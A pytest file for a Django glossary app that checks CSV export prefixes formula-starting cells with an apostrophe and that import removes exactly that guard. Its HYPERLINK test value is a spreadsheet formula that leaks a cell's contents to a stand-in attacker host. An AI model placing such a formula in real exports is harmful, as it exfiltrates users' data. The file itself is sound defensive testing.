"""CSV exports never hand a spreadsheet a formula: a cell starting with ``=``, ``+``, ``-``,
``@``, tab or CR gets a leading ``'``, and import removes exactly that guard."""

import csv
import io

import pytest
from django.urls import reverse

from translations.glossary.files import ConceptData, TermData, csv_dump, csv_load
from translations.glossary.files.csvfile import csv_cell_guard, csv_cell_unguard
from translations.glossary.services import glossary_import
from translations.models import Concept

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def _rows(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def _concept(**fields):
    terms = fields.pop("terms", (TermData("en", "summit"),))
    return ConceptData("c1", terms=terms, **fields)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_start_is_guarded_and_the_guard_removed(start):
    cell = f"{start}1+1"
    assert csv_cell_guard(cell) == f"'{cell}"
    assert csv_cell_unguard(csv_cell_guard(cell)) == cell


@pytest.mark.parametrize(
    "cell", ["summit", "'quoted'", "'=not-a-guard", "''=two", "", "'", "a=b", "1-2", "саммит"]
)
def test_guard_and_unguard_round_trip_exactly(cell):
    assert csv_cell_unguard(csv_cell_guard(cell)) == cell
    if not cell.startswith(("=", "+", "-", "@", "'")):
        assert csv_cell_guard(cell) == cell


def test_import_removes_exactly_one_guard():
    assert csv_cell_unguard("'=x") == "=x"
    assert csv_cell_unguard("''=x") == "'=x"
    assert csv_cell_unguard("'x") == "'x"


def test_hyperlink_term_note_and_definition_are_guarded_in_the_export():
    concept = _concept(
        terms=(TermData("en", HYPERLINK, note="@SUM(A1:A9)"),),
        definition={"en": "-2+3"},
        note={"en": "+cmd"},
    )
    row = _rows(csv_dump([concept]))[1]
    assert row[3] == "'" + HYPERLINK
    assert row[7] == "'@SUM(A1:A9)"
    assert row[8] == "'-2+3"
    assert row[9] == "'+cmd"
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert csv_load(csv_dump([concept])) == [concept]


def test_text_that_already_looks_guarded_survives_the_round_trip():
    concept = _concept(terms=(TermData("en", "'=quoted formula"),), note={"en": "''+x"})
    text = csv_dump([concept])
    assert _rows(text)[1][3] == "''=quoted formula"
    assert csv_load(text) == [concept]


@pytest.mark.django_db
def test_glossary_csv_download_guards_a_hyperlink_term(client, users):
    glossary_import([_concept(terms=(TermData("en", HYPERLINK), TermData("ru", "саммит")))])
    client.force_login(users["terminologist"])
    response = client.get(reverse("admin:translations_glossary_export") + "?format=csv")
    assert response.status_code == 200
    rows = _rows(response.content.decode("utf-8"))
    assert [row[3] for row in rows[1:]] == ["'" + HYPERLINK, "саммит"]
    # Uploading the file back changes nothing: the guard is gone again.
    upload = io.BytesIO(response.content)
    upload.name = "glossary.csv"
    client.post(reverse("admin:translations_glossary_import"), {"file": upload})
    assert sorted(Concept.objects.get().terms.values_list("text", flat=True)) == sorted(
        [HYPERLINK, "саммит"]
    )
